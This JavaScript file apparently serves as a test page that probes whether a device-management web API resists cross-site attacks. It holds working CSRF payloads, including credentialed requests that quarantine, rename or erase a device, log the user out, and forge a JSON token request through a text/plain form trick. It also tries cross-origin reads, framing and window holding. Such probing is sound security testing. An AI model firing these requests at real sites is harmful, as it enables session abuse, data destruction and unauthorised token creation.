// What a page of an attacker tries against a server to which the reader is logged in. Each attempt
// gives what it got as words; '' is nothing. What it has done is seen at the server.

const PATIENCE = 2500;

const orNothing = (promise) => Promise.race([promise.catch(() => ''),
  new Promise((resolve) => setTimeout(() => resolve('no end'), PATIENCE))]);

const read = (asked) => asked.then(async (answer) => `${answer.type} ${await answer.text()}`);

const element = (name, attributes) => new Promise((resolve) => {
  const made = Object.assign(document.createElement(name), attributes);
  made.onload = () => resolve('loaded');
  made.onerror = () => resolve('');
  document.body.append(made);
});

function writes(to, device, login) {
  const ask = (method, path, type, body, mode) => read(fetch(to + path, {method, mode, body,
    credentials: 'include', headers: type ? {'Content-Type': type} : {}}));
  const zone = `/api/v1/devices/${device}/zone`;
  const blocked = '{"zone":"quarantine"}';
  const json = 'application/json';
  return {
    'blind text': ask('POST', zone, 'text/plain', blocked, 'no-cors'),
    'blind without a type': ask('POST', zone, '', new Blob([blocked]), 'no-cors'),
    'text': ask('POST', zone, 'text/plain', blocked, 'cors'),
    'json': ask('POST', zone, json, blocked, 'cors'),
    'change': ask('PATCH', `/api/v1/devices/${device}`, json, '{"mode":"look"}', 'cors'),
    'rename': ask('PATCH', `/api/v1/devices/${device}`, json, '{"name":"evil"}', 'cors'),
    'erase': ask('POST', '/api/v1/deletions', 'text/plain',
      `{"scope":"device","subject":"${device}"}`, 'no-cors'),
    'log out': ask('DELETE', '/api/v1/session', '', undefined, 'cors'),
    'log in': ask('POST', '/api/v1/session', 'text/plain', login, 'no-cors'),
    'beacon': Promise.resolve(navigator.sendBeacon(to + zone, blocked) ? '' : 'not sent'),
  };
}

function reads(to) {
  return {
    'read blind': read(fetch(`${to}/api/v1/devices`, {mode: 'no-cors', credentials: 'include'}))
      .then((words) => `answered ${words}`),
    'read': read(fetch(`${to}/api/v1/devices`, {credentials: 'include'})),
    'read events': read(fetch(`${to}/api/v1/events`, {credentials: 'include'})),
    'events': new Promise((resolve) => {
      const source = new EventSource(`${to}/api/v1/events`, {withCredentials: true});
      source.onmessage = (event) => resolve(event.data);
      source.onopen = () => resolve('opened');
      source.onerror = () => (source.close(), resolve(''));
    }),
    'module': import(`${to}/words.js`).then(() => 'loaded'),
    'script': element('script', {src: `${to}/words.js`}),
    'data as script': element('script', {src: `${to}/api/v1/devices`}),
    'style': element('link', {rel: 'stylesheet', href: `${to}/base.css`}),
    'picture': element('img', {src: `${to}/icon.svg`}),
    'socket': new Promise((resolve) => {
      const socket = new WebSocket(`${to.replace('https', 'wss')}/api/v1/events`);
      socket.onopen = () => resolve('opened');
      socket.onerror = () => resolve('');
    }),
  };
}

async function all(attempts) {
  const got = {};
  await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
    got[name] = await orNothing(attempt);
  }));
  return got;
}

/** A form that a click on anything might send: it asks for a token, to get in without a browser. */
function send(to, enctype, method) {
  const form = Object.assign(document.createElement('form'),
    {action: `${to}/api/v1/tokens`, enctype, method});
  const input = document.createElement('input');
  // As text/plain this is {"name":"evil="}, which is JSON.
  [input.name, input.value] = ['{"name":"evil', '"}'];
  form.append(input);
  document.body.append(form);
  form.submit();
}

function frames(to) {
  document.body.append(Object.assign(document.createElement('iframe'), {src: `${to}/`}),
    Object.assign(document.createElement('object'), {data: `${to}/`, type: 'text/html'}),
    Object.assign(document.createElement('embed'), {src: `${to}/`, type: 'text/html'}));
}

/** Opens the other page in a window and tries to keep hold of it. */
function hold(to) {
  const other = open(`${to}/`);
  return new Promise((resolve) => {
    const look = setInterval(() => other.closed && (clearInterval(look), resolve('')), 20);
    setTimeout(() => (clearInterval(look), resolve(`held, with ${other.length} frames`)), 1500);
  });
}
